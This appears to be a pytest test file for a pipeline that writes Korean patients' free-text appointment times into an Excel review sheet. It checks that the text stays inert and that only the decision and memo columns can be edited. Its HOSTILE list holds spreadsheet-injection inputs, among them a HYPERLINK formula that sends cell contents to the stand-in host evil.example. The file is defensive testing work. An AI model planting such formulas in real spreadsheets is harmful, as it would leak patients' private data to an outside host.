"""The review list as a spreadsheet: what a reviewer may do in it, and what no text of a patient's can."""

import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from pipeline import review_sheet
from pipeline.review_file import Waiting, shown
from pipeline.review_sheet import COLUMNS, DECISIONS, write_lines

CELLS = json.loads((Path(__file__).parent / "spreadsheet_cells.json").read_text(encoding="utf-8"))
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B3,"여기")',
    "=1+1",
    "@SUM(A1)",
    "+1",
    "-2+3",
    "#N/A",
    "TRUE",
    "3-4",
    "10:30",
    "2025-10-30",
    "007",
    "1e5",
    "http://evil.example/",
    "a\x00b\x01\x0b\x1f",
    "\ufffe\uffff",
    "\n",
    "\r\n",
    "\t",
    "a\nb",
    "_x0041_",
    "_x000D_",
    "]]>&<b>'\"",
    "👩‍⚕️",
    "  앞뒤  ",
    "'8시",
    "",
    None,
]


def waiting(raw: str | None, number: int = 1, **more: object) -> Waiting:
    given = {"suggestion": None, "confidence": 0.456, "reason": "ambiguous_hour"} | more
    return Waiting(f"T{number:016x}", raw, None if raw is None else len(raw), number, **given)


@pytest.fixture
def sheet(tmp_path: Path) -> Callable[..., Worksheet]:
    def write(*lines: Waiting, **more: bool) -> Worksheet:
        path = tmp_path / "manual_review.xlsx"
        assert write_lines(path, lines, "run-1", **more) == len(lines)
        return load_workbook(path)["검토"]

    return write


def unescaped(value: object) -> object:
    return value.replace("_x005F_", "_") if isinstance(value, str) else value


def test_every_text_arrives_as_text_and_as_nothing_else(sheet: Callable[..., Worksheet]) -> None:
    texts = [*HOSTILE, *(text for group in CELLS.values() for text in group)]
    found = sheet(*(waiting(raw, number) for number, raw in enumerate(texts, start=1)))
    cells = [row[1] for row in found.iter_rows(min_row=2)]
    assert [unescaped(cell.value) for cell in cells] == [waiting(raw).shown for raw in texts]
    assert {(cell.data_type, cell.number_format, cell.quotePrefix, cell.hyperlink) for cell in cells} == {
        ("s", "@", True, None)
    }


def test_a_text_that_looks_like_the_formats_own_escape_is_escaped(sheet: Callable[..., Worksheet]) -> None:
    assert sheet(waiting("_x0041_ _x41_"))["B2"].value == "_x005F_x0041_ _x41_"


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(raw=st.text(max_size=40))
def test_any_text_can_be_shown(sheet: Callable[..., Worksheet], raw: str) -> None:
    found = sheet(waiting(raw))["B2"]
    assert (unescaped(found.value), found.data_type) == (unescaped(shown(raw)), "s")


def test_the_file_holds_no_formula_link_or_outside_part(sheet: Callable[..., Worksheet], tmp_path: Path) -> None:
    sheet(*(waiting(raw, number) for number, raw in enumerate(HOSTILE)))
    with zipfile.ZipFile(tmp_path / "manual_review.xlsx") as book:
        lists = book.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in book.namelist() if "external" in name.lower() or "sheet1.xml.rels" in name]
    assert "<f>" not in lists
    assert "<f " not in lists
    assert "<hyperlink" not in lists
    assert {part.split('"')[0] for part in lists.split(' t="')[1:]} == {"inlineStr", "n"}


def test_a_line_says_what_a_reviewer_needs(sheet: Callable[..., Worksheet]) -> None:
    found = sheet(waiting("8시쯤", 1234, suggestion="MORNING"), waiting("낮", 2))
    lines = list(found.iter_rows(values_only=True))
    assert lines[0] == ("번호", "환자가 적은 글", "판정", "메모", "예약 수", "추천", "확신", "사람이 볼 까닭")
    assert lines[1] == (
        "T00000000000004d2",
        "8시쯤",
        None,
        None,
        1234,
        "오전",
        0.46,
        "오전인지 오후인지 정할 수 없는 시각",
    )
    assert lines[2][5] is None


def test_what_was_said_so_far_is_shown_where_asked(sheet: Callable[..., Worksheet]) -> None:
    found = sheet(waiting("8시", answers="=접수1 오전 · 접수2 오후"), with_answers=True)
    assert [found["I1"].value, found["I2"].value, found["I2"].data_type] == [
        "지금까지의 판정",
        "=접수1 오전 · 접수2 오후",
        "s",
    ]


def test_a_reviewer_picks_from_a_list_and_can_change_nothing_else(sheet: Callable[..., Worksheet]) -> None:
    found = sheet(waiting("8시"), waiting("낮", 2))
    (offer,) = found.data_validations.dataValidation
    assert (offer.type, offer.formula1, str(offer.sqref)) == ("list", '"오전,오후,둘 다 아님"', "C2:C3")
    assert offer.showErrorMessage
    assert offer.allow_blank
    assert found.protection.sheet
    assert not found.protection.autoFilter  # in the format's own words: filtering is not forbidden
    open_columns = {
        cell.column_letter for row in found.iter_rows(min_row=2) for cell in row if not cell.protection.locked
    }
    assert open_columns == {"C", "D"}
    assert {found[name].number_format for name in ("C2", "D2", "C3")} == {"@"}
    assert not found["C2"].quotePrefix


def test_the_heading_stays_in_sight_and_can_be_filtered(sheet: Callable[..., Worksheet]) -> None:
    found = sheet(waiting("8시"), waiting("낮", 2))
    assert (found.freeze_panes, found.auto_filter.ref) == ("A2", "A1:H3")
    widths = [found.column_dimensions[letter].width for letter in "ABCDEFGH"]
    assert widths == [column.width for column in COLUMNS[:8]]
    assert found["B2"].alignment.wrap_text


def test_a_guide_tells_how(sheet: Callable[..., Worksheet]) -> None:
    book = sheet(waiting("8시")).parent
    assert book.sheetnames == ["검토", "안내"]
    assert book.active.title == "검토"
    told = "\n".join(str(row[0]) for row in book["안내"].iter_rows(values_only=True) if row[0])
    assert all(word in told for word in (*DECISIONS, "비워", "개인정보", "글 1개", "run-1"))
    assert "나머지" not in told


def test_a_file_has_the_most_frequent_texts_and_says_where_the_others_are(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(review_sheet, "MOST", 3)
    path = tmp_path / "manual_review.xlsx"
    assert write_lines(path, (waiting(str(number), number) for number in range(5)), "run-1") == 3
    book = load_workbook(path)
    assert book["검토"].max_row == 4
    told = "\n".join(str(row[0]) for row in book["안내"].iter_rows(values_only=True))
    assert "글 3개" in told
    assert "나머지 2개는 함께 있는 manual_review.csv" in told


def test_no_file_outgrows_a_sheet() -> None:
    assert review_sheet.MOST < 1_048_576


def test_nothing_to_review_is_a_file_too(sheet: Callable[..., Worksheet]) -> None:
    assert sheet().max_row == 1


def test_a_long_text_is_shortened_visibly(sheet: Callable[..., Worksheet], tmp_path: Path) -> None:
    found = sheet(waiting("가나" * 524_288))
    assert found["B2"].value == "가나" * 100 + "… ⟨전체 1,048,576자⟩"
    assert (tmp_path / "manual_review.xlsx").stat().st_size < 20_000
